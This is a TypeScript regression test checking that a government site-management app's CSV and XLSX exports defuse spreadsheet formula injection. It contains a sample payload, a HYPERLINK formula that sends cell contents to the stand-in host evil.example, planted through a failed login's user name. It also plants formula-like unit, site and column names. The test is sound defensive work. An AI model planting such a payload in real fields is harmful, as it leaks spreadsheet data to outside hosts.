import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertDuty, insertSubmission } from '../../src/modules/guarantee/guarantee.test-helpers.js';
import { ApiClient, createTestApp, type TestApp } from '../harness/app.js';
import { PASSWORD, makeAccount, makeColumn, makeSite, makeUnit } from '../harness/factories.js';

// Issue 9 item 4: exports wrote cells as typed. A failed sign-in's user name went into the audit export
// verbatim, so "=HYPERLINK(...)" ran when the office opened the file; unit, site and column names reach
// the 通报 and the annual figures the same way. Every text cell that begins with = + - @, a tab or a
// carriage return now begins with an apostrophe.

const ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';
let t: TestApp;
let admin: ApiClient;
let editor: ApiClient;
let siteId: number;

beforeAll(async () => {
  t = await createTestApp();
  const s = t.services;
  const office = await makeUnit(s, '人民政府办公室', 'gov_dept', { shortName: '政府办' });
  await makeAccount(s, 'fiadmin', office.id, ['sysadmin']);
  await makeAccount(s, 'fieditor', office.id, ['site_editor']);
  admin = await ApiClient.login(t.server, 'fiadmin', PASSWORD);
  editor = await ApiClient.login(t.server, 'fieditor', PASSWORD);
  const site = await makeSite(s);
  siteId = site.id;
  const column = await makeColumn(s, site.id, '部门动态', null, { updateClass: 'news' });
  await makeColumn(s, site.id, '专题', null, { kind: 'topic' });
  const unit = await makeUnit(s, '注入测试局');
  // Names arrive from imports and other people's typing; the export must hold whatever they are.
  await s.database.db.updateTable('units').set({ short_name: '+SUM(1,2)' }).where('id', '=', unit.id).execute();
  await s.database.db.updateTable('sites').set({ name: '@SUM(1,2)' }).where('id', '=', site.id).execute();
  await s.database.db.updateTable('columns').set({ name: '-2+3' }).where('name', '=', '专题').execute();
  await s.database.db
    .updateTable('units')
    .set({ created_at: '2025-01-01T00:00:00.000Z' })
    .where('id', '=', unit.id)
    .execute();
  await insertDuty(s, column.id, { cadence: 'weekly_min', minPerWeek: 1 }, [{ unitId: unit.id }]);
  await insertSubmission(s, { unitId: unit.id, columnId: column.id, receivedAt: '2026-10-14T02:00:00.000Z' });
});
afterAll(() => t?.close());

async function sheetTexts(bytes: Buffer): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const out: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (typeof cell.value === 'string') out.push(cell.value);
      }),
    ),
  );
  return out;
}

/** Cells no spreadsheet program would read as a formula. */
const inert = (cells: string[]) => cells.filter((c) => /^[=+\-@\t\r]/.test(c.trimStart()));

describe('formula injection in exports', () => {
  it('neutralises a failed sign-in’s user name in the audit export (CSV and XLSX)', async () => {
    const failed = await t.server.inject({
      method: 'POST',
      url: '/api/auth/login',
      payload: { username: ATTACK, password: 'whatever-it-is' },
    });
    expect(failed.statusCode).toBe(401);
    const csv = await admin.get('/api/audit/export?format=csv');
    expect(csv.statusCode).toBe(200);
    const line = csv.body.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
    // The user name is the second cell, quoted because it holds quotes and a comma.
    expect(line.split(',')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1`);
    const cells = line.match(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)!.map((c) => c.replace(/^,/, ''));
    expect(cells.every((c) => !/^"?[=+\-@\t\r]/.test(c))).toBe(true);

    const xlsx = await admin.get('/api/audit/export?format=xlsx');
    const texts = await sheetTexts(xlsx.rawPayload);
    expect(texts).toContain(`'${ATTACK}`);
    expect(inert(texts)).toEqual([]);
  });

  it('neutralises unit names in the monthly 通报 XLSX', async () => {
    const b = await editor.post('/api/guarantee/bulletins', { month: '2026-10', siteId });
    expect(b.statusCode, b.body).toBe(201);
    const x = await editor.get(`/api/guarantee/bulletins/${b.json().id}/xlsx`);
    const texts = await sheetTexts(x.rawPayload);
    expect(texts).toContain("'+SUM(1,2)");
    expect(inert(texts)).toEqual([]);
  });

  it('neutralises site and column names in the annual figures XLSX', async () => {
    const x = await editor.get(`/api/guarantee/annual/xlsx?year=2026&siteId=${siteId}`);
    expect(x.statusCode).toBe(200);
    const texts = await sheetTexts(x.rawPayload);
    expect(texts.some((c) => c.startsWith("'@SUM(1,2)"))).toBe(true);
    expect(texts).toContain("'-2+3");
    expect(inert(texts)).toEqual([]);
  });
});
